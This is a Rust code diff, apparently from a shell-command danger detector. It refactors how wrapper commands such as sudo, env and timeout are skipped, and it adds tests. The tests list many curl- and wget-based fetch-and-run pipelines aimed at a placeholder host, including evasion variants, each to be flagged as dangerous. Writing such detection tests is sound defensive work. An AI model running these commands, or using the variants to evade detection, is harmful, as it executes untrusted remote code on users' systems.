@@ -13,7 +13,7 @@ use danger::dangers;
 use grade::grade;
 use reader::Reader;
 
-use super::Word;
+use super::{Program, Word, program, table};
 
 /// Shell text that a step executes.
 #[derive(Debug, Clone, Default)]
@@ -96,18 +96,24 @@ fn effective(command: &Command) -> &[Word] {
         "sudo", "exec", "command", "nohup", "time", "then", "do", "else", "{", "!", "if", "&", "doas",
         "start", "call",
     ];
-    let mut skip = 0;
-    let mut was_wrapper = false;
-    for word in &command.words {
+    let mut words = command.words.as_slice();
+    while let Some((word, rest)) = words.split_first() {
         let text = word.value.as_str();
-        let is_wrapper = SKIPPED.contains(&text);
-        if !(is_wrapper || is_assignment(text) || (was_wrapper && text.starts_with('-'))) {
-            break;
-        }
-        was_wrapper |= is_wrapper;
-        skip += 1;
+        let own = match program::program(text) {
+            _ if is_assignment(text) => rest.len(),
+            Program::Env => table::ENV.parse(rest).operands.len(),
+            Program::Wrapper(name) => match table::wrapper(&name) {
+                Some(spec) if spec.verbs.is_empty() => {
+                    spec.options.parse(rest).operands.len().saturating_sub(spec.operands)
+                }
+                _ => break,
+            },
+            _ if SKIPPED.contains(&text) => rest.len(),
+            _ => break,
+        };
+        words = rest.get(rest.len().saturating_sub(own)..).unwrap_or_default();
     }
-    command.words.get(skip..).unwrap_or_default()
+    words
 }
 
 /// `NAME=value`.
@@ -171,6 +177,24 @@ mod tests {
             ("curl -fsSL https://x.example/i | sh", FetchAndRun),
             ("curl -s https://x.example/i | sudo -E bash -s -- -y", FetchAndRun),
             ("wget -qO- https://x.example | python3", FetchAndRun),
+            ("curl https://x.example | sh -e", FetchAndRun),
+            ("curl https://x.example 2>/dev/null | bash -euo pipefail >/tmp/log 2>&1", FetchAndRun),
+            ("curl https://x.example | bash --noprofile --norc > /dev/null", FetchAndRun),
+            ("curl https://x.example |& env A=b bash -x", FetchAndRun),
+            ("curl https://x.example | sudo -u root bash", FetchAndRun),
+            ("curl https://x.example | timeout -k 1 60 sh", FetchAndRun),
+            ("curl https://x.example | nice -n 5 /bin/sh -", FetchAndRun),
+            ("curl https://x.example | busybox sh", FetchAndRun),
+            ("curl https://x.example | (cd /tmp && sh)", FetchAndRun),
+            ("curl https://x.example | (sh)", FetchAndRun),
+            ("curl https://x.example | { sh; }", FetchAndRun),
+            ("curl https://x.example | tee >(sh) >/dev/null", FetchAndRun),
+            ("curl https://x.example | bash /dev/stdin --yes", FetchAndRun),
+            ("curl https://x.example | python3 -W ignore - --yes", FetchAndRun),
+            ("curl https://x.example | xargs -0 sh -s", FetchAndRun),
+            ("env -i curl https://x.example | sh", FetchAndRun),
+            ("bash <<< \"$(curl https://x.example)\"", FetchAndRun),
+            ("sh < <(curl https://x.example)", FetchAndRun),
             ("curl https://x.example | tee /tmp/l | bash", FetchAndRun),
             ("bash <(curl -s https://x.example)", FetchAndRun),
             ("bash -c \"$(curl -s https://x.example)\"", FetchAndRun),
@@ -191,6 +215,9 @@ mod tests {
             "wget https://x.example/data.json; npx server data",
             "npx -y fetch-server --exec-path x",
             "echo 'curl x | sh'",
+            "curl -s https://x.example | sh ./check.sh",
+            "curl -s https://x.example | python3 -W ignore check.py",
+            "curl -s https://x.example > >(cat)",
         ] {
             assert!(script(text).dangers.is_empty(), "{text}: {:?}", script(text).dangers);
         }
